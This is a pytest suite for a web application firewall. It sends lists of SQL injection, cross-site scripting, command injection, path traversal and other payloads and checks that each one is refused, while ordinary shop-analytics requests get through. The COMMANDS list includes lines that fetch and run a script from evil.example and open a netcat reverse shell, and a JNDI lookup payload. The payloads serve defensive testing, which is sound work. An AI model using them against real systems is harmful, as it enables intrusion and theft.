"""The wall refuses what attacks and lets through what people and machines send; the server behind it only counts."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, ClassVar

import httpx
import pytest

from tools.waf import Wall, install, standing_before

pytestmark = pytest.mark.engine

REFUSED = {400, 403, 405, 413, 415}
SQL = (
    "1' OR '1'='1' -- ",
    "1 UNION SELECT username, password FROM users",
    "'; DROP TABLE orders; --",
    "1 AND SLEEP(5)",
    "1' AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT(version(), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) a) --",
    "admin'--",
    "1; EXEC xp_cmdshell('dir')",
    "1' WAITFOR DELAY '0:0:5' --",
    "-1' UNION ALL SELECT NULL, pg_sleep(5), NULL --",
    "1 OR 1=1 INTO OUTFILE '/tmp/x'",
)
SCRIPT = (
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(document.domain)",
    "<iframe src='javascript:alert(1)'></iframe>",
    '"><script src=//evil.example/x.js></script>',
    "<body onload=alert(1)>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
)
COMMANDS = (
    "; cat /etc/passwd",
    "| wget http://evil.example/x.sh -O- | sh",
    "$(curl http://evil.example)",
    "`id`; uname -a",
    "() { :; }; /bin/bash -c 'id'",
    "&& powershell -enc SQBFAFgA",
    "${jndi:ldap://evil.example/a}",
    "; nc -e /bin/sh evil.example 4444",
)
FILES = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "/etc/shadow",
    "....//....//etc/passwd",
    "file:///etc/passwd",
)
OTHERS = (
    "php://filter/convert.base64-encode/resource=index.php",
    "<?php system($_GET['c']); ?>",
    "http://169.254.169.254/latest/meta-data/../../../etc/passwd",
    "require('child_process').exec('id')",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    'O:8:"stdClass":1:{s:1:"a";s:1:"b";}; system(\'id\')',
)
PATHS = (
    "/.env",
    "/.git/config",
    "/wp-config.php.bak",
    "/etc/passwd%00.html",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/api/v1/orders/..%5c..%5cwindows%5cwin.ini",
)
AGENTS = ("sqlmap/1.7", "Nikto/2.5.0", "masscan/1.3", "Mozilla/5.0 (compatible; Nmap Scripting Engine)")


class Counting(BaseHTTPRequestHandler):
    """Answers everything and remembers what came through."""

    protocol_version = "HTTP/1.1"
    seen: ClassVar[list[str]] = []

    def answer(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.seen.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(b"ok")

    do_GET = do_HEAD = do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = do_TRACE = do_TRACK = answer  # noqa: N815 (the server looks for these names)

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


@contextmanager
def counting() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Counting)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


@pytest.fixture(scope="module")
def wall() -> Iterator[Wall]:
    if reason := install():
        pytest.skip(reason)
    with counting() as upstream, standing_before(upstream) as found:
        yield found


@pytest.fixture(autouse=True)
def nothing_seen() -> None:
    Counting.seen.clear()


AGENT = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Chromium/156.0", "Accept": "application/json"}


@pytest.fixture(scope="module")
def client(wall: Wall) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=wall.address, headers=AGENT, timeout=60) as found:
        yield found


@pytest.fixture
def flooded() -> Iterator[httpx.Client]:
    """A wall of its own: what it counted against this address must not reach another test."""
    if reason := install():
        pytest.skip(reason)
    with (
        counting() as upstream,
        standing_before(upstream) as found,
        httpx.Client(base_url=found.address, headers=AGENT, timeout=60) as client,
    ):
        yield client


def attacks() -> list[tuple[str, str, dict[str, Any]]]:
    """Return (method, path, what else the request has) of every attack."""
    found: list[tuple[str, str, dict[str, Any]]] = []
    found += [("GET", "/api/v1/orders", {"params": {"q": text}}) for text in (*SQL, *SCRIPT)]
    found += [("POST", "/api/v1/query", {"json": {"metrics": [text]}}) for text in (*SQL[:4], *SCRIPT[:3])]
    found += [("GET", "/api/v1/customers", {"params": {"q": text}}) for text in (*COMMANDS, *OTHERS)]
    found += [("GET", "/api/v1/search", {"params": {"file": text}}) for text in FILES]
    found += [("GET", path, {}) for path in PATHS]
    found += [("GET", "/api/v1/session", {"headers": {"User-Agent": agent}}) for agent in AGENTS]
    found += [("TRACE", "/", {}), ("TRACK", "/", {}), ("DEBUG", "/", {})]
    found += [
        ("POST", "/api/v1/boards", {"content": b'{"name": ', "headers": {"Content-Type": "application/json"}}),
        (
            "POST",
            "/api/v1/boards",
            {"content": b"[" * 200 + b"]" * 200, "headers": {"Content-Type": "application/json"}},
        ),
        ("POST", "/api/v1/boards", {"content": b"x" * 3_000_000, "headers": {"Content-Type": "application/json"}}),
        ("POST", "/api/v1/boards", {"content": b"a=b", "headers": {"Content-Type": "application/x-shockwave-flash"}}),
        ("GET", "/", {"headers": {"Cookie": "a=1' OR '1'='1' --"}}),
        ("GET", "/", {"headers": {"Referer": "http://x/<script>alert(1)</script>"}}),
        ("GET", "/api/v1/orders", {"params": {"sort": "id;SELECT/**/pg_sleep(10)--"}}),
    ]
    return found


def test_there_are_sixty() -> None:
    assert len(attacks()) >= 60


@pytest.mark.parametrize(
    "attack", attacks(), ids=lambda one: f"{one[0]} {one[1]} {str(next(iter(one[2].values()), ''))[:40]}"
)
def test_an_attack_is_refused_before_it_reaches_the_panel(
    client: httpx.Client, attack: tuple[str, str, dict[str, Any]]
) -> None:
    method, path, more = attack
    answer = client.request(method, path, **more)
    assert answer.status_code in REFUSED, answer.text[:200]
    assert Counting.seen == []


ORDINARY: tuple[dict[str, Any], ...] = (
    {"metrics": ["net_sales", "orders"], "dimensions": ["store"], "range": {"from": "2026-01-01", "to": "2026-01-31"}},
    {"metrics": ["aov"], "filters": [{"field": "customer_country", "op": "in", "value": ["DE", "AT"]}], "compare": "previous_year"},
    {"formula": "(gross_profit - shipping * 0.5) / net_sales", "filters": [], "key": None, "at": 12},
    {"name": "Select of the week & more", "document": {"format": 1, "settings": {}, "variables": [], "tiles": []}},
    {"name": "Sales <2026>", "text": "We sold 30 % more; drop shipping from Lyon, union of both shops. Order by Friday!"},
    {"email": "o'brien@example.com", "name": "Zoë O'Brien-Müller; Ltd.", "role": "viewer"},
)  # fmt: skip


@pytest.mark.parametrize("body", ORDINARY, ids=lambda body: next(iter(body)) + "-" + str(len(str(body))))
def test_what_people_write_goes_through(client: httpx.Client, body: dict[str, Any]) -> None:
    assert client.post("/api/v1/anything", json=body).status_code == 200
    for method in ("PUT", "PATCH", "DELETE"):
        assert client.request(method, "/api/v1/anything", json=body).status_code == 200
    assert len(Counting.seen) == 4


def test_a_password_may_be_any_text_and_is_not_logged(client: httpx.Client, wall: Wall) -> None:
    secret = "' OR 1=1; <script>alert(1)</script> -- hunter"
    assert client.post("/api/v1/session", json={"email": "a@example.com", "password": secret}).status_code == 200
    client.get("/api/v1/orders", params={"q": "Kettlewell"})
    logged = wall.log.read_text() + "".join(path.read_text() for path in wall.log.parent.glob("comptoir-access*"))
    assert "/api/v1/session" in logged
    assert "hunter" not in logged
    assert "Kettlewell" not in logged


def test_a_delivery_goes_through_whatever_a_buyer_wrote(client: httpx.Client) -> None:
    note = json.dumps({"note": f"{SQL[1]} {SCRIPT[0]} {COMMANDS[0]}"})
    headers = {"Content-Type": "application/json", "X-Shopify-Hmac-Sha256": "c2lnbmVk"}
    assert client.post("/hooks/shop/orders", content=note, headers=headers).status_code == 200


def test_a_file_of_any_content_goes_through(client: httpx.Client) -> None:
    rows = ("order,note\n" + "\n".join(f"{at},{SQL[1]}" for at in range(200))).encode()
    assert client.post("/api/v1/imports", files={"file": ("orders.csv", rows, "text/csv")}).status_code == 200


def test_a_flood_from_one_address_is_told_to_slow_down(flooded: httpx.Client) -> None:
    answers = [flooded.post("/api/v1/session", json={"email": "a@example.com", "password": "x"}) for _ in range(80)]
    assert 429 in {answer.status_code for answer in answers}
